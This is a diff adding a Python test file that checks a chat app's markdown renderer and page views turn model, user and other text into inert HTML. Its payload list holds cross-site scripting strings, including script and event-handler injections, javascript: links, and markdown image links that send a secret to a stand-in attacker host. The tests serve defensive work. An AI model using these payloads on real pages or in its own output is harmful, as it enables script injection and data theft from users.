@@ -1,0 +1,217 @@
+"""What the model, the user and everybody else wrote becomes HTML that can do nothing."""
+
+import re
+import time
+from collections import Counter
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from apps.core import MESSAGE
+from apps.tables import Row
+from apps.todo.store import TODO
+from bus.messages import LlmListed
+from web.bar import conversation_menu, model_menu, status_light
+from web.chat import article
+from web.markdown import LONGEST_RENDERED, TAGS, render
+from web.page import page
+from web.rows import row_item
+from web.views import PageView, html
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<a href=javascript:alert(1)>x</a>",
+    '<base href="http://evil.example/">',
+    '<meta http-equiv=refresh content="0;url=http://evil.example">',
+    "<form action=http://evil.example><input name=a></form>",
+    '<div hx-get="/" hx-on:click="alert(1)" data-hx-post="/" hx-swap-oob="true" id="app">x</div>',
+    "<style>@import 'http://evil.example'</style>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox)",
+    "[x](&#106;avascript:alert(1))",
+    '[x](https://a.example "<pre> onmouseover=alert(1)")',
+    "[x](https://a.example/<pre>onmouseover=alert(1))",
+    "![x](http://evil.example/?d=SECRET)",
+    "![x][1]\n\n[1]: http://evil.example/?d=SECRET",
+    '<img srcset="http://evil.example 2x">',
+    '<p style="background:url(http://evil.example)">x</p>',
+    '<link rel=prefetch href="http://evil.example">',
+    '```"><script>alert(1)</script>\nx\n```',
+    "```html\n<script>alert(1)</script>\n```",
+    '```json\n{"operation": "</pre><script>alert(1)</script>"}\n```',
+    "|<script>|<img src=x>|\n|---|---|\n|`<b>`|</td><td onclick=alert(1)>|",
+    "</div></article><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<scr<script>ipt>alert(1)</script>",
+]
+
+OURS = {"div", "button", "details", "summary"}
+"""Elements that the page itself puts around code and tables."""
+
+HARMLESS = {"href", "target", "rel", "start", "class", "tabindex", "type", "aria-label", "title", "data-copy"}
+
+
+class Elements(HTMLParser):
+    """Collects the elements of a piece of HTML, as a browser would make them."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.open: list[str] = []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+        if tag not in {"br", "hr", "input", "meta", "link"}:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def assert_harmless(rendered: str) -> None:
+    elements = Elements(rendered)
+    assert elements.open == []
+    for tag, attributes in elements.found:
+        assert tag in TAGS | OURS
+        assert set(attributes) <= HARMLESS
+        assert re.match(r"(https?|mailto):", attributes.get("href") or "https:")
+        if tag == "a":
+            assert (attributes["target"], "noopener" in str(attributes["rel"])) == ("_blank", True)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_an_attack_is_shown_as_text(payload: str) -> None:
+    assert_harmless(render(payload))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_an_attack_that_arrives_in_pieces_is_harmless_after_each(payload: str) -> None:
+    for end in range(len(payload)):
+        assert_harmless(render(payload[:end]))
+
+
+@settings(deadline=None, max_examples=150)
+@given(
+    st.lists(st.sampled_from([*PAYLOADS, "`", "```", "\n", "|", "<", ">", '"', "&", "<pre>", "</pre>", "[x](", ")"]))
+)
+def test_attacks_that_are_mixed_are_harmless(pieces: list[str]) -> None:
+    assert_harmless(render("".join(pieces)))
+
+
+def test_markdown_becomes_what_it_means() -> None:
+    rendered = render("# Title\n\n*a* **b** ~~c~~ `d` <https://e.example>\n\n1. one\n2. two\n\n|x|y|\n|-|-|\n|1|2|")
+
+    tags = [tag for tag, _ in Elements(rendered).found]
+    assert {"h1", "em", "strong", "s", "code", "a", "ol", "li", "table", "th", "td"} <= set(tags)
+
+
+def test_code_is_highlighted_and_can_be_copied() -> None:
+    rendered = render("```python\nreturn '<b>'\n```")
+
+    assert '<span class="k">return</span>' in rendered
+    assert 'data-copy="code"' in rendered
+    assert Elements(rendered).text == "return '<b>'\n"
+
+
+def test_code_of_no_known_language_is_left_as_it_is() -> None:
+    assert Elements(render("```nonsense\na <b> & c\n```")).text == "a <b> & c\n"
+
+
+def test_an_order_is_folded() -> None:
+    elements = Elements(render('Yes.\n\n```json\n{"operation": "delete", "table": "todo", "id": 1}\n```\n\nDone.'))
+
+    assert [tag for tag, _ in elements.found if tag in {"details", "p"}] == ["p", "details", "p"]
+
+
+@pytest.mark.parametrize("text", ["", "\n\n", "\0", "\u202eabc", "👩‍👩‍👧", "אבג", "a\u0085b", "\u2028"])
+def test_odd_texts_are_rendered(text: str) -> None:
+    assert_harmless(render(text))
+
+
+@pytest.mark.parametrize("piece", ["[", "![", "*a ", "_a", "`a", "<", "[a](b", "> ", "|a|\n|-|\n", "- a\n  ", "&"])
+def test_no_text_takes_long(piece: str) -> None:
+    text = (piece * LONGEST_RENDERED)[:LONGEST_RENDERED]
+    started = time.process_time()
+
+    render(text)
+
+    assert time.process_time() - started < 3
+
+
+def test_a_text_too_long_to_render_is_shown_whole() -> None:
+    text = "<b>x</b> " * 20_000
+
+    assert Elements(render(text)).text == text
+
+
+# --- the same, wherever else a text of others is shown ---
+
+
+def message(**values: Any) -> Row:
+    return {"id": 1, **{one.name: one.empty for one in MESSAGE.fields}, **values}
+
+
+def view(**values: Any) -> PageView:
+    return PageView(revision=1, tab="tab", app="todo", apps=("todo",), table=TODO, **values)
+
+
+def shown(text: str) -> dict[str, str]:
+    """Return each place in which a text of others is shown, as HTML."""
+    detail = {"instruction": {"operation": text}, "change": 1}
+    conversation = {"id": 1, "title": text, "created": 0.0}
+    models = LlmListed(player="ollama", default=text, models=[{"name": text, "size": 1}], problem=text)
+    return {
+        "user": html(article(message(role="user", text=text))),
+        "answer": html(article(message(role="assistant", text=text, thinking=text, model=text, problem=text))),
+        "streaming": html(article(message(role="assistant", state="streaming", model=text), text)),
+        "action": html(article(message(role="action", state="applied", text=text, detail=detail, problem=text))),
+        "row": html(row_item(TODO, {"id": 1, "title": text, "done": False, "created": 0.0, "position": 1.0})),
+        "row id": html(row_item(TODO, {"id": text, "title": "x", "done": False, "created": 0.0, "position": 1.0})),
+        "conversations": html(conversation_menu(view(conversation=conversation, conversations=(conversation,)))),
+        "models": html(model_menu(view(models=models))),
+        "status": html(status_light(view(missing=(text,)))),
+        "page": page(view(conversation=conversation, models=models, settings={"theme": text, "mode": text})),
+    }
+
+
+def elements_of(text: str) -> Counter[str]:
+    return Counter(tag for tag, _ in Elements(text).found)
+
+
+CALM = {place: elements_of(text) for place, text in shown("calm").items()}
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_an_attack_makes_no_element_anywhere(payload: str) -> None:
+    for place, text in shown(payload).items():
+        added = elements_of(text) - CALM[place]
+        assert set(added) <= ({"code"} | TAGS | OURS if place == "answer" else {"code"}), place
+        names = {name for _, attributes in Elements(text).found for name in attributes}
+        assert not any(
+            name.startswith(("on", "hx-on", "hx-get", "data-hx", "style", "src")) for name in names - {"src"}
+        )
+
+
+def test_the_page_names_no_other_host() -> None:
+    text = page(view()).replace("http://www.w3.org/2000/svg", "")
+
+    assert not re.search(r"https?:|//[a-z]", text.replace("127.0.0.1", ""))
+    assert "<style" not in text
+    assert " style=" not in text
+    assert not re.search(r"<script[^>]*>[^<]", text)
